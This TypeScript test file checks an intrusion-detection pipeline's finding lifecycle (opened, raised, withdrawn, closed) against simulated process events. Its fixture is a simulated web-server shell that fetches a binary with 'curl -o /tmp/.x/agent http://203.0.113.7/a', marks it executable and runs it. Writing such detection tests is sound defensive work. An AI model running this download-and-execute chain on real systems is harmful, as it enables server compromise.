import type { Artifact, ArtifactBytes, Bytes, Finding, Priority } from "@limpid/core";
import { describe, expect, it } from "vitest";
import { elf } from "../packages/detect/src/testing/elf.ts";
import { Scene } from "../packages/detect/src/testing/scene.ts";
import { barePipeline } from "./support/pipeline.ts";

/** A watch over a scene: what was said, and files whose bytes a test puts there or takes away. */
class Watch {
  readonly said: { readonly finding: Finding; readonly former: Priority | undefined }[] = [];
  readonly files = new Map<string, Bytes>();
  readonly scene = new Scene();
  /** What was learned of files while they were there. */
  remember: NonNullable<ArtifactBytes["remembered"]> = () => undefined;
  readonly #pipeline;
  #fed = 0;

  constructor(offered = true, limits: { readonly maxLives?: number } = {}) {
    const bytes: ArtifactBytes = {
      inspect: ({ path }) => this.files.get(path) ?? { state: "gone", explanation: "it is not there." },
      remembered: (wanted) => this.remember(wanted),
    };
    this.#pipeline = barePipeline((finding, former) => this.said.push({ finding, former }), {
      live: { quietMs: 20, longestMs: 1000 },
      limits: { lives: limits },
      ...(offered ? { bytes, bytesOffered: true } : {}),
    });
  }

  /** Takes in what the scene told since, and lets it settle. */
  settle(): readonly [change: string, revision: number, priority: Priority][] {
    return this.tell(100);
  }

  /** The same after so many milliseconds. */
  tell(waitMs = 0): readonly [change: string, revision: number, priority: Priority][] {
    const before = this.said.length;
    for (; this.#fed < this.scene.events.length; this.#fed++) {
      const event = this.scene.events[this.#fed];
      if (event !== undefined) this.#pipeline.observe(event);
    }
    this.scene.wait(waitMs);
    this.#pipeline.settle(this.scene.now);
    return this.since(before);
  }

  poke(path: string): readonly [change: string, revision: number, priority: Priority][] {
    const before = this.said.length;
    this.#pipeline.poke("host", "fe:01", this.scene.files.get(path)?.inode ?? 0);
    this.#pipeline.settle(this.scene.now);
    return this.since(before);
  }

  get waits(): boolean {
    return this.#pipeline.waiting > 0;
  }

  end(): readonly [change: string, revision: number, priority: Priority][] {
    const before = this.said.length;
    this.#pipeline.end();
    return this.since(before);
  }

  since(before: number): readonly [change: string, revision: number, priority: Priority][] {
    return this.said.slice(before).map(({ finding }) => [finding.change, finding.revision, finding.priority]);
  }
}

const AGENT = "/tmp/.x/agent";

/** A web server's shell brings a program. */
function brought(watch: Watch) {
  const shell = watch.scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
  const curl = shell.fork().exec("/usr/bin/curl", `curl -o ${AGENT} http://203.0.113.7/a`).create(AGENT);
  watch.files.set(AGENT, elf());
  return { shell, curl };
}

describe("a finding that grows", () => {
  it("is opened, raised, updated and closed under one id, and its revision rises by one", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    expect(watch.settle()).toEqual([["opened", 1, "high"]]);
    expect(watch.settle()).toEqual([]);
    shell.fork().exec("/usr/bin/chmod", `chmod +x ${AGENT}`).chmod(AGENT).exit();
    watch.settle();
    shell.fork().exec(AGENT).exit();
    expect(watch.settle().map(([change]) => change)).toEqual(["updated"]);
    expect(watch.end().map(([change]) => change)).toEqual(["closed"]);
    expect(new Set(watch.said.map(({ finding }) => finding.id)).size).toBe(1);
    expect(watch.said.map(({ finding }) => finding.revision)).toEqual(watch.said.map((_, index) => index + 1));
  });

  it("waits for its writer: a thousand writes are one judgement", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    for (let index = 0; index < 1000; index++) shell.open(AGENT);
    expect(watch.settle()).toHaveLength(1);
  });

  it("is raised when the bytes that were awaited have been inspected", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    watch.files.delete(AGENT);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT);
    expect(watch.settle()).toEqual([["opened", 1, "medium"]]);
    watch.files.set(AGENT, elf());
    expect(watch.poke(AGENT)).toEqual([["raised", 2, "high"]]);
    expect(watch.said[1]?.former).toBe("medium");
    expect(watch.poke(AGENT)).toEqual([]);
  });

  it("waits for nothing more once it is told, when its bytes were inspected before", () => {
    const watch = new Watch();
    watch.scene.process({ image: "/usr/sbin/cron" }).fork();
    watch.settle();
    brought(watch);
    expect(watch.poke(AGENT)).toEqual([]);
    expect(watch.tell().map(([change]) => change)).toEqual(["opened"]);
  });

  it("is withdrawn when its bytes show that it is no subject, and says so once", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    watch.files.delete(AGENT);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT);
    watch.settle();
    watch.files.set(AGENT, elf({ level: "none" }));
    expect(watch.poke(AGENT)).toEqual([["withdrawn", 2, "expected"]]);
    expect(watch.poke(AGENT)).toEqual([]);
    expect(watch.end()).toEqual([]);
  });

  it("keeps what was inspected when the file is removed", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT);
    watch.settle();
    watch.files.delete(AGENT);
    shell.fork().exec("/usr/bin/rm", `rm ${AGENT}`).unlink(AGENT);
    watch.settle();
    watch.end();
    const last = watch.said.at(-1)?.finding;
    expect(last?.priority).toBe("high");
    expect(last?.artifact.inspected).toBe(true);
  });

  it("gets its last revision when memory is short", () => {
    const watch = new Watch(true, { maxLives: 4 });
    const { shell } = brought(watch);
    watch.settle();
    for (let index = 0; index < 8; index++) shell.create(`/srv/data-${index}`);
    expect(watch.settle().map(([change]) => change)).toEqual(["closed"]);
  });

  it("says nothing of a file that is no finding", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    watch.files.set(AGENT, { state: "inspected", artifact: TEXT });
    shell.chmod(AGENT);
    expect(watch.settle()).toEqual([]);
    expect(watch.end()).toEqual([]);
  });
});

const TEXT: Artifact = {
  path: "",
  sizeBytes: 12,
  format: null,
  opacity: { level: null, packed: false, reasons: [] },
  parts: [],
  issues: [],
};

describe("a stream that shows commands and no files", () => {
  it("gives what a stripping command named as output, once it is clear that no file comes", () => {
    const watch = new Watch(false);
    const shell = watch.scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
    shell.fork().exec("/usr/bin/gcc", "gcc -s -o /tmp/.x/a a.c");
    expect(watch.settle()).toEqual([]);
    watch.scene.wait(61_000);
    shell.fork().exec("/usr/bin/id");
    const [first, ...others] = [...watch.settle(), ...watch.settle()];
    expect([first?.[0], first?.[1], others]).toEqual(["opened", 1, []]);
    expect(watch.settle()).toEqual([]);
    expect(watch.end().map(([change]) => change)).toEqual(["closed"]);
  });
});

describe("bytes that are on their way", () => {
  const PENDING: Bytes = { state: "unreadable", explanation: "it is being looked into", pending: true };

  it("are awaited for a moment before anything is said", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    watch.files.set(AGENT, PENDING);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT);
    expect(watch.settle()).toEqual([]);
    watch.files.set(AGENT, elf());
    expect(watch.poke(AGENT)).toEqual([["opened", 1, "high"]]);
  });

  it("are not awaited for ever", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    watch.files.set(AGENT, PENDING);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT);
    const said = Array.from({ length: 30 }, () => watch.settle()).flat();
    expect(said).toEqual([["opened", 1, "medium"]]);
    watch.files.set(AGENT, elf());
    expect(watch.poke(AGENT)).toEqual([["raised", 2, "high"]]);
  });

  it("hold up nothing when the watch ends", () => {
    const watch = new Watch();
    const { shell } = brought(watch);
    watch.files.set(AGENT, PENDING);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT);
    expect(watch.settle()).toEqual([]);
    expect(watch.end()).toEqual([["opened", 1, "medium"]]);
  });
});

describe("a file whose inode another one takes at once", () => {
  const PENDING: Bytes = { state: "unreadable", explanation: "it is being looked into", pending: true };
  /** As the live sensor answers: by life, whatever has the name or the inode by then. */
  function answering(watch: Watch): Map<string, Bytes> {
    const answers = new Map<string, Bytes>();
    watch.remember = ({ life }) => answers.get(life.birthEvent) ?? PENDING;
    return answers;
  }
  /** Two programs under one name and inode, one after the other. */
  function twice(watch: Watch): readonly string[] {
    const { shell } = brought(watch);
    watch.files.set(AGENT, PENDING);
    shell.chmod(AGENT);
    shell.fork().exec(AGENT).exit();
    shell.unlink(AGENT);
    shell.create(AGENT);
    return watch.scene.events.flatMap((event) => (event.kind === "file.opened" && event.created ? [event.id] : []));
  }

  it("gets its last word when its own bytes have been looked into", () => {
    const watch = new Watch();
    const answers = answering(watch);
    const [first = ""] = twice(watch);
    expect(watch.settle()).toEqual([]);
    expect(watch.waits).toBe(true);
    answers.set(first, elf());
    expect(watch.settle().slice(0, 1)).toEqual([["opened", 1, "high"]]);
    expect(watch.said[0]?.finding.artifact.inspected).toBe(true);
  });

  it("does not wait for ever, and not at the end", () => {
    const patient = new Watch();
    answering(patient);
    twice(patient);
    const said = Array.from({ length: 30 }, () => patient.settle()).flat();
    expect(said[0]).toEqual(["opened", 1, "medium"]);
    const ended = new Watch();
    answering(ended);
    twice(ended);
    ended.settle();
    expect(ended.end()[0]).toEqual(["opened", 1, "medium"]);
  });
});
